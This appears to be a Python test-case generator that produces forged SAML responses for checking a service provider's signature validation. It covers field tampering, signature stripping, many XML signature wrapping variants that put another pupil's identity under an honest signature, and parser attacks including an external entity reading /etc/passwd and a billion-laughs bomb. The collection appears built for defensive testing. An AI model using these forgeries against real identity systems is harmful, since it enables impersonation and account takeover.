"""What somebody without the provider's key can make of an honest response."""

import re

from saml import ASSERTION_ID, DS, IDO, RESPONSE_ID, SAML, SAMLP, SERVICE, VICTIM_IDO

FORGED_ID = "_f0e9d"


def once(text, old, new):
    """Replaces what must be there."""
    if old not in text:
        raise RuntimeError(f"nothing to change: {old}")
    return text.replace(old, new, 1)


def element(text, name):
    return re.search(rf"<{name}[ >].*</{name}>", text, re.DOTALL).group()


class Parts:
    """An honest signed response, taken apart; `forged` is the victim's assertion, signed by nobody."""

    def __init__(self, response):
        self.response = response
        self.signed = element(response, "saml:Assertion")
        self.signature = element(self.signed, "ds:Signature")
        self.bare = once(self.signed, self.signature, "")
        self.forged = victim(once(self.bare, f'ID="{ASSERTION_ID}"', f'ID="{FORGED_ID}"'))
        self.forged_signed = self.with_signature(self.forged, self.signature)

    @staticmethod
    def with_signature(assertion, signature):
        return once(assertion, "</saml:Issuer>", "</saml:Issuer>" + signature)

    def holding(self, inside):
        """The response, with this in the place of its assertion."""
        return once(self.response, self.signed, inside)

    def inside_signature(self, inside, wrapper="ds:Object"):
        """The forged assertion under the honest signature, which holds this."""
        held = f"<{wrapper}>{inside}</{wrapper}>" if wrapper else inside
        return self.with_signature(self.forged, once(self.signature, "</ds:Signature>", held + "</ds:Signature>"))


def victim(text):
    return text.replace(IDO, VICTIM_IDO).replace("Zoé", "Adèle").replace("LEFEVRE", "MARTIN")


def attribute(name, value):
    return f'<saml:Attribute Name="{name}"><saml:AttributeValue>{value}</saml:AttributeValue></saml:Attribute>'


def tampering(response):
    """Name, text: each field changed after signing."""
    changes = {
        "ido": (IDO, VICTIM_IDO),
        "ido-last-character": (IDO + "<", IDO[:-1] + "d<"),
        "uai": ("0810004P", "0810990A"),
        "profile": ("National_elv", "National_ens"),
        "name": ("LEFEVRE", "MARTIN"),
        "first-name": ("Zoé", "Zoe"),
        "division": ("3A##", "3B##"),
        "attribute-name": ('Name="CIV"', 'Name="CIW"'),
        "name-id": ("_transient-9f41", "_transient-9f42"),
        "assertion-id": (f'ID="{ASSERTION_ID}"', f'ID="{FORGED_ID}"'),
        "issue-instant": ('Version="2.0" IssueInstant="2026-10-05T08:30:00Z"><saml:Issuer>', None),
        "conditions-end": ('NotOnOrAfter="2026-10-05T08:35:00Z"><saml:Aud', 'NotOnOrAfter="2026-10-05T08:36:00Z"><saml:Aud'),
        "confirmation-end": ('NotOnOrAfter="2026-10-05T08:35:00Z" Rec', 'NotOnOrAfter="2026-10-05T08:36:00Z" Rec'),
        "session-end": ("2026-10-05T18:00:00Z", "2026-10-06T18:00:00Z"),
        "authentication": ("2026-10-05T08:29:50Z", "2026-10-05T08:29:51Z"),
        "audience-added": (f"<saml:Audience>{SERVICE}", f"<saml:Audience>urn:x</saml:Audience><saml:Audience>{SERVICE}"),
        "attribute-added": ("</saml:AttributeStatement>", attribute("UAI", "0810990A") + "</saml:AttributeStatement>"),
        "statement-added": ("</saml:Assertion>", f"<saml:AttributeStatement>{attribute('PRO', 'National_ens')}</saml:AttributeStatement></saml:Assertion>"),
        "value-added": ("<saml:AttributeValue>Zoé", "<saml:AttributeValue>Adèle</saml:AttributeValue><saml:AttributeValue>Zoé"),
        "bearer-added": ("<saml:SubjectConfirmationData", "<saml:NameID>_transient-9f41</saml:NameID><saml:SubjectConfirmationData"),
        "carriage-return": ("Zoé", "Zoé&#13;"),
        "blank-around-ido": (IDO, f" {IDO} "),
        "white-space": ("</saml:Subject>", "</saml:Subject> "),
        "statement-removed": (element(response, "saml:AuthnStatement"), ""),
        "default-attribute": ("<saml:AttributeValue>", '<saml:AttributeValue x="">'),
        "digest-value": ("<ds:DigestValue>", "<ds:DigestValue>AAAA"),
        "signature-value": ("<ds:SignatureValue>", "<ds:SignatureValue>AAAA"),
    }
    for name, (old, new) in changes.items():
        new = old.replace("08:30:00", "08:30:01") if new is None else new
        yield name, once(response, old, new)


def stripping(response):
    """Name, text: no signature, or not all of it."""
    parts = Parts(response)

    def without(pattern):
        changed = re.sub(pattern, "", response, count=1, flags=re.DOTALL)
        if changed == response:
            raise RuntimeError(f"nothing to strip: {pattern}")
        return changed

    yield "signature", parts.holding(parts.bare)
    yield "signature-victim", parts.holding(parts.forged)
    yield "signature-value", without(r"<ds:SignatureValue>.*?</ds:SignatureValue>")
    yield "signature-value-empty", without(r"(?<=<ds:SignatureValue>).*?(?=</ds:SignatureValue>)")
    yield "signed-info", without(r"<ds:SignedInfo>.*?</ds:SignedInfo>")
    yield "reference", without(r"<ds:Reference .*?</ds:Reference>")
    yield "transforms", without(r"<ds:Transforms>.*?</ds:Transforms>")
    yield "digest-value", without(r"(?<=<ds:DigestValue>).*?(?=</ds:DigestValue>)")
    yield "signature-empty", parts.holding(parts.with_signature(parts.forged, f'<ds:Signature xmlns:ds="{DS}"/>'))
    yield "signature-of-no-namespace", response.replace(f'xmlns:ds="{DS}"', 'xmlns:ds="urn:x"')


def wrapping(response, both_signed):
    """Name, text: the honest signature still holds somewhere, and another assertion is in its place."""
    yield from classical(response, both_signed)
    yield from nested(Parts(response))
    yield from second_responses(Parts(response))
    yield from identifiers(Parts(response))


def classical(response, both_signed):
    p = Parts(response)
    root_signature = re.search(r"<ds:Signature.*?</ds:Signature>", both_signed, re.DOTALL).group()
    bare_root = once(both_signed, root_signature, "")
    evil = victim(once(bare_root, f'ID="{RESPONSE_ID}"', 'ID="_evil"'))
    evil = re.sub(r"<ds:Signature.*?</ds:Signature>", "", evil, flags=re.DOTALL)
    evil = once(evil, f'ID="{ASSERTION_ID}"', f'ID="{FORGED_ID}"')
    around = once(root_signature, "</ds:Signature>", f"<ds:Object>{bare_root}</ds:Object></ds:Signature>")
    status = "<samlp:Status>"
    yield "xsw1-response-in-its-signature", once(evil, status, around + status)
    yield "xsw2-response-after-its-signature", once(evil, status, root_signature + bare_root + status)
    yield "xsw3-forged-before", p.holding(p.forged + p.signed)
    yield "xsw3-forged-after", p.holding(p.signed + p.forged)
    yield "xsw4-signed-in-forged", p.holding(once(p.forged, "</saml:Assertion>", p.signed + "</saml:Assertion>"))
    yield "xsw5-signature-moved", p.holding(p.forged_signed + p.bare)
    yield "xsw5-signature-moved-after", p.holding(p.bare + p.forged_signed)
    yield "xsw6-signed-in-signature", p.holding(p.inside_signature(p.bare, None))
    extensions = f"<samlp:Extensions>{p.signed}</samlp:Extensions>"
    yield "xsw7-signed-in-extensions", once(p.holding(p.forged), status, extensions + status)
    forged_there = f"<samlp:Extensions>{p.forged}</samlp:Extensions>"
    yield "xsw7-forged-in-extensions", once(response, status, forged_there + status)
    yield "xsw8-signed-in-object", p.holding(p.inside_signature(p.bare))


def nested(p):
    def in_forged(old, new):
        return p.holding(once(p.forged, old, new))

    conditions = "<saml:AuthnStatement"
    yield "in-advice", in_forged(conditions, f"<saml:Advice>{p.signed}</saml:Advice>{conditions}")
    advised = f"<saml:Advice>{p.bare}</saml:Advice>{conditions}"
    yield "in-advice-signature-moved", p.holding(once(p.forged_signed, conditions, advised))
    detail = f"<samlp:StatusDetail>{p.signed}</samlp:StatusDetail></samlp:Status>"
    yield "in-status-detail", once(p.holding(p.forged), "</samlp:Status>", detail)
    statement = element(p.forged, "saml:AttributeStatement")
    for name, hidden in [
        ("forged", p.forged),
        ("signature", p.signature),
        ("statement", statement.replace("<saml:AttributeStatement", f'<saml:AttributeStatement xmlns:saml="{SAML}"', 1)),
        ("statement-of-no-namespace", re.sub(r"saml:|:saml", "", statement)),
        ("response", re.sub(r"<saml:Assertion.*</saml:Assertion>", "", p.response, flags=re.DOTALL).replace(RESPONSE_ID, "_evil")),
    ]:
        detail = f"<samlp:StatusDetail><x>{hidden}</x></samlp:StatusDetail></samlp:Status>"
        yield f"{name}-in-status-detail", once(p.response, "</samlp:Status>", detail)
    bearer = f"<saml:NameID>{p.signed}</saml:NameID><saml:SubjectConfirmationData"
    yield "in-bearer-s-name", in_forged("<saml:SubjectConfirmationData", bearer)
    value = f"<saml:AttributeValue>{VICTIM_IDO}"
    yield "in-attribute-value", in_forged(value, value + p.signed)
    yield "in-attribute", in_forged('<saml:Attribute Name="IDO">', '<saml:Attribute Name="IDO">' + p.signed)
    yield "in-name-id", in_forged("_transient-9f41", p.signed)
    data = "<saml:SubjectConfirmation "
    yield "in-subject", in_forged(data, p.signed + data)
    yield "in-issuer", in_forged("</saml:Issuer>", p.signed + "</saml:Issuer>")
    yield "in-audience", in_forged(SERVICE, SERVICE + p.signed)
    yield "in-key-info", p.holding(p.inside_signature(p.bare, "ds:KeyInfo"))
    yield "in-signature-value", p.holding(
        p.with_signature(p.forged, once(p.signature, "</ds:SignatureValue>", p.bare + "</ds:SignatureValue>"))
    )
    yield "forged-in-signature-object", p.holding(
        once(p.signed, "</ds:Signature>", f"<ds:Object>{p.forged}</ds:Object></ds:Signature>")
    )
    yield "forged-in-key-info", p.holding(
        once(p.signed, "</ds:Signature>", f"<ds:KeyInfo>{p.forged}</ds:KeyInfo></ds:Signature>")
    )
    statement = once(
        element(p.forged, "saml:AttributeStatement"), "Statement>", f'Statement xmlns:saml="{SAML}">'
    )
    yield "forged-statement-in-signature", p.holding(
        once(p.signed, "</ds:Signature>", f"<ds:Object>{statement}</ds:Object></ds:Signature>")
    )
    yield "forged-statement-in-response", p.holding(statement + p.signed)
    yield "detached-in-response", p.holding(p.signature + p.forged + p.bare)
    yield "two-signatures", p.holding(p.with_signature(p.signed, p.signature))
    yield "other-namespace-beside", p.holding(p.forged.replace(SAML, "urn:oasis:names:tc:SAML:1.0:assertion") + p.signed)
    yield "no-namespace-beside", p.holding(re.sub(r"saml:|:saml", "", p.forged).replace(SAML, "") + p.signed)


def second_responses(p):
    forged = once(p.holding(p.forged), f'ID="{RESPONSE_ID}"', 'ID="_evil"')
    status = "<samlp:Status>"
    end = "</samlp:Response>"
    yield "response-in-response", once(forged, end, p.response + end)
    yield "response-in-extensions", once(forged, status, f"<samlp:Extensions>{p.response}</samlp:Extensions>{status}")
    yield "forged-response-in-response", once(p.response, end, forged + end)
    yield "envelope", f'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body>{p.response}</e:Body></e:Envelope>'
    yield "envelope-of-two", f"<both>{forged}{p.response}</both>"
    yield "assertion-as-root", p.signed
    yield "artifact-response", f'<samlp:ArtifactResponse xmlns:samlp="{SAMLP}">{p.response}</samlp:ArtifactResponse>'
    yield "response-of-other-namespace", p.response.replace(SAMLP, "urn:x")
    yield "two-roots", forged + p.response


def identifiers(p):
    same = once(p.forged, f'ID="{FORGED_ID}"', f'ID="{ASSERTION_ID}"')
    same_signed = p.with_signature(same, p.signature)
    yield "same-id-before", p.holding(same + p.signed)
    yield "same-id-after", p.holding(p.signed + same)
    yield "same-id-signature-moved", p.holding(same_signed + p.bare)
    yield "same-id-around", p.holding(once(same_signed, "</saml:Assertion>", p.bare + "</saml:Assertion>"))
    yield "same-id-as-response", once(p.holding(p.forged_signed), f'ID="{RESPONSE_ID}"', f'ID="{ASSERTION_ID}"')
    for name in ("Id", "id", "xml:id", "AssertionID"):
        other = once(p.forged_signed, f'ID="{FORGED_ID}"', f'ID="{FORGED_ID}" {name}="{ASSERTION_ID}"')
        yield f"other-attribute-{name.replace(':', '-').lower()}", p.holding(other + p.bare)
        at_root = once(p.response, f'ID="{RESPONSE_ID}"', f'ID="{RESPONSE_ID}" {name}="{ASSERTION_ID}"')
        yield f"other-attribute-{name.replace(':', '-').lower()}-at-root", at_root


def parsing(response):
    """Name, text: the signature holds for one reader, and another may read something else."""
    half = IDO[:64]
    yield "comment-in-ido", once(response, IDO, half + "<!---->" + half)
    yield "comment-before-ido", once(response, IDO, "<!--x-->" + IDO)
    yield "comment-in-name-id", once(response, "_transient-9f41", "_transient<!-- -->-9f41")
    yield "comment-in-audience", once(response, SERVICE, "https://orga<!-- -->.invalid/gar/metadata")
    yield "comment-in-issuer", response.replace("https://idp.gar", "https://idp<!-- -->.gar")
    yield "comment-in-signature", once(response, "<ds:SignatureValue>", "<ds:SignatureValue><!-- -->")
    yield "comment-in-signed-info", once(response, "<ds:SignedInfo>", "<ds:SignedInfo><!-- -->")
    yield "instruction-in-ido", once(response, IDO, half + "<?x y?>" + half)
    yield "instruction-before", "<?x y?>" + response
    yield "instruction-after", response + "<?x y?>"
    yield "instruction-in-response", once(response, "<samlp:Status>", "<?x y?><samlp:Status>")
    yield "style-sheet", '<?xml-stylesheet href="https://autre.invalid/x.xsl"?>' + response
    yield "doctype", f"<!DOCTYPE samlp:Response>{response}"
    yield "doctype-external", f'<!DOCTYPE r SYSTEM "https://autre.invalid/x.dtd">{response}'
    yield "entity-internal", f'<!DOCTYPE r [<!ENTITY ido "{IDO}">]>' + once(response, IDO, "&ido;")
    yield "entity-external", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + once(response, IDO, "&x;")
    yield "entity-parameter", f'<!DOCTYPE r [<!ENTITY % x SYSTEM "https://autre.invalid/x">%x;]>{response}'
    yield "entity-undeclared", once(response, IDO, "&ido;")
    yield "attribute-default", f'<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID "{ASSERTION_ID}">]>{response}'
    yield "billion-laughs", laughs() + once(response, IDO, "&l9;")
    yield "null-character", once(response, IDO, half + "&#0;" + half)
    yield "text-after-root", response + "trailing"
    yield "not-closed", response.removesuffix("</samlp:Response>")
    yield "attribute-twice", once(response, f'ID="{ASSERTION_ID}"', f'ID="{ASSERTION_ID}" ID="{FORGED_ID}"')
    yield "prefix-bound-again", once(response, "<saml:Subject>", '<saml:Subject xmlns:saml="urn:x">')
    yield "depth", once(response, "<samlp:Status>", "<x>" * 100 + "</x>" * 100 + "<samlp:Status>")
    yield "depth-of-thousands", once(response, "<samlp:Status>", "<x>" * 9000 + "</x>" * 9000 + "<samlp:Status>")
    yield "size", response + " " * (256 * 1024)
    yield "empty", ""
    yield "not-xml", "SAMLResponse"


def laughs():
    rows = ['<!ENTITY l0 "lol">']
    rows += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE r [{''.join(rows)}]>"


def same_for_all(response):
    """Name, text: written otherwise, and the same for every reader: the signed identity, or a refusal."""
    half = IDO[:64]
    yield "declared-utf-8", '<?xml version="1.0" encoding="UTF-8"?>\n' + response
    yield "white-space-after", response + "\n\n"
    yield "character-references", once(response, IDO, "&#x35;&#100;" + IDO[2:])
    yield "cdata-in-ido", once(response, IDO, f"{half}<![CDATA[{half}]]>")
    yield "quotes-in-other-style", once(response, f'ID="{ASSERTION_ID}"', f"ID='{ASSERTION_ID}'")
    yield "comment-outside-assertion", once(response, "<samlp:Status>", "<!-- --><samlp:Status>")
    yield "comment-after-root", response + "<!-- -->"
    yield "carriage-returns-between-elements", once(response, "<samlp:Status>", "\r\n\r<samlp:Status>\r")
    yield "white-space-in-response", once(response, "<samlp:Status>", "\n  <samlp:Status>")
